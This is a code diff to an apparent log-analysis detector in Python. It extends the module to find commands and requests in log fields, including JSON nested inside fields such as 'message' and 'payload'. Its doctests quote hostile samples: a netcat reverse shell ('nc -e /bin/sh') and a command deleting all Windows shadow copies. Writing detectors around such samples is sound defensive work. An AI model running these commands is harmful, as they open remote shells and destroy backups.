@@ -6,10 +6,11 @@ to guess: a value under a name that is used for other things as well counts wher
 """
 from __future__ import annotations
 
+import json
 import re
 from functools import lru_cache
 from itertools import islice
-from typing import Any, Collection, Dict, Iterable, List, NamedTuple, Optional, Tuple
+from typing import Any, Dict, Iterable, Iterator, List, Mapping, NamedTuple, Optional, Tuple
 
 from .bare import COMMAND, EXECUTABLE, NAME_MAX_CHARS, UNIX, WINDOWS, Bare, bare_of
 from .names import letters_of, without_port
@@ -20,6 +21,7 @@ from .said import (
     SAID_MAX,
     certain,
     command_free,
+    command_prompted,
     command_said,
     command_told,
     is_asked_for,
@@ -28,7 +30,9 @@ from .said import (
     joined,
     request_said,
     request_told,
+    statement_in_cells,
     statement_said,
+    statement_told,
     value_from,
 )
 from .strangers import is_repeated
@@ -83,7 +87,7 @@ _PROGRAM = re.compile(r"(?i)/\S|[a-z]:\\|.{1,200}\.exe\Z")
 _MEMBERS_MAX = 400
 _ADDRESS = re.compile(r"(?:(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?|[\da-fA-F]{0,4}(?::[\da-fA-F]{0,4}){2,7})\Z")
 #: A pair that holds a command, wherever it stands in a line.
-_COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])((?:[a-z_.-]{0,20}_)?(?:cmd|command|exec|argv|args|raw_params|proctitle)[a-z_]{0,12})=(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})'|(?=([^\s\"',;]{1,8000})))")
+_COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])([a-z_.-]{0,20}?(?:cmd|command|exec|argv|args|raw_params|proctitle|script|shell)[a-z_]{0,12})(?:=|: (?=[\"']))(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})'|(?=([^\s\"',;]{1,8000})))")
 
 
 class Held(NamedTuple):
@@ -100,16 +104,18 @@ class Held(NamedTuple):
 Found = Dict[str, Dict[str, List[str]]]
 
 
-def holds(names: Collection[str]) -> bool:
-    """Whether an object whose dotted names in lower case are `names` may hold either: to look costs little, to read all its members more."""
-    return _hold(tuple(names))
+def holds(members: Mapping[str, Any]) -> bool:
+    """Whether an object of `members` by their dotted names may hold any of these: to look at the names costs little, to read all the members more."""
+    is_sign, queries, packed = _hold(tuple(members))
+    return is_sign or any(is_statement(members[name]) for name in queries) or any(members[name].__class__ is str and members[name][:2] == '{"' for name in packed)
 
 
 @lru_cache(maxsize=1 << 11)
-def _hold(names: Tuple[str, ...]) -> bool:
-    """The same, kept: events of one kind have the same names."""
+def _hold(names: Tuple[str, ...]) -> Tuple[bool, Tuple[str, ...], Tuple[str, ...]]:
+    """Whether they may by their names, and those of which the values show it; kept: events of one kind have the same names."""
     parts = set(map(_part_of, names))
-    return not _SIGNS.isdisjoint(parts) or "page" in parts and not _BESIDE_PAGES.isdisjoint(parts) or "weak" in parts and not _BESIDE_WEAK.isdisjoint(parts)
+    is_sign = not _SIGNS.isdisjoint(parts) or "page" in parts and not _BESIDE_PAGES.isdisjoint(parts) or "weak" in parts and not _BESIDE_WEAK.isdisjoint(parts)
+    return is_sign, tuple(name for name in names if _part_of(name) == "query"), tuple(name for name in names if letters_of(name[-40:].rpartition(".")[2]) in _PACKED)
 
 
 def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
@@ -122,9 +128,43 @@ def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
     >>> held_in([("body.cmdline", "nc -e /bin/sh gate 4444")]), held_in([("command", "start")])
     (None, None)
     """
+    read = list(islice(members, _MEMBERS_MAX))
+    held = _held_in(read)
+    return held if held is not None else next(filter(None, map(_held_in, islice(_packed(read), _PACKED_MAX))), None)
+
+
+def _packed(members: List[Tuple[str, Any]]) -> Iterator[List[Tuple[str, Any]]]:
+    """Members of the objects that stand as text in members of which an application made them; what somebody sent it keeps so as well."""
+    for name, value in [member for member in members if member[1].__class__ is str and member[1][:1] == "{"]:
+        if value[1:2] == '"' and value[-1:] == "}":
+            *steps, last = map(letters_of, name[:400].split("."))
+            if last in _PACKED and _OTHERS.isdisjoint(steps) and (last != "payload" or "target" not in map(_part_of, (other for other, _ in members))):
+                try:
+                    record = json.loads(value)
+                except (ValueError, RecursionError):
+                    continue
+                yield list(islice(_leaves(record, "", 0), _MEMBERS_MAX))
+
+
+def _leaves(node: Any, path: str, depth: int) -> Iterator[Tuple[str, Any]]:
+    if isinstance(node, dict) and depth < _PACKED_DEPTH:
+        for name, value in node.items():
+            yield from _leaves(value, f"{path}.{name}" if path else name, depth + 1)
+    elif isinstance(node, list):
+        yield path, [value for value in node if isinstance(value, str)]
+    elif node is not None and node != "":
+        yield path, node
+
+
+#: What members are called that hold an object as text; no more of them are read, and no deeper.
+_PACKED = frozenset("message msg log event data record payload".split())
+_PACKED_MAX, _PACKED_DEPTH = 3, 6
+
+
+def _held_in(members: List[Tuple[str, Any]]) -> Optional[Held]:
     found: Found = {}
     sent: Dict[str, Any] = {}
-    for name, value in islice(members, _MEMBERS_MAX):
+    for name, value in members:
         part = _part_of(name)
         if part == _AUDITED:
             return None
@@ -236,7 +276,7 @@ def _request(found: Found) -> Optional[WebRequest]:
 
 
 def held_in_line(text: str) -> Optional[Held]:
-    """The same of a line: a command in one of its pairs, or a request that it tells. A line that repeats what a stranger gave tells neither.
+    """The same of a line: a command in one of its pairs, or what else it tells. A line that repeats what a stranger gave tells neither.
 
     >>> held_in_line('pc7 exec user=ann cmd="vssadmin delete shadows /all"').command.systems
     ('windows',)
@@ -244,7 +284,8 @@ def held_in_line(text: str) -> Optional[Held]:
     if is_repeated(text):
         return None
     found: Found = {}
-    for pair in islice(_COMMAND_PAIR.finditer(text, 0, LINE_REACH) if "=" in text[:LINE_REACH] else (), SAID_MAX):
+    head = text[:LINE_REACH]
+    for pair in islice(_COMMAND_PAIR.finditer(head) if "=" in head or ': "' in head or ": '" in head else (), SAID_MAX):
         part = _part_of(pair[1])
         if part and text.count('"', 0, pair.start()) % 2 == 0 and part not in found:
             start = pair.start(4)
@@ -253,7 +294,10 @@ def held_in_line(text: str) -> Optional[Held]:
     command = _command(found)
     if command is not None:
         return Held(command)
-    ran, asked = command_told(text) or command_free(text), request_told(text)
-    if ran is not None and (asked is None or ran[0] < asked[0]):  # what stands in the other is a part of it
+    ran, asked, put = command_told(text) or command_prompted(text) or command_free(text), request_told(text), statement_told(text) or statement_in_cells(text)
+    # What stands in another is a part of it.
+    if put is not None and (ran is None or put[0] <= ran[0]) and (asked is None or put[0] < asked[0]):
+        return Held(statement=put[1])
+    if ran is not None and (asked is None or ran[0] < asked[0]):
         return Held(ran[1])
     return None if asked is None else Held(request=asked[1])
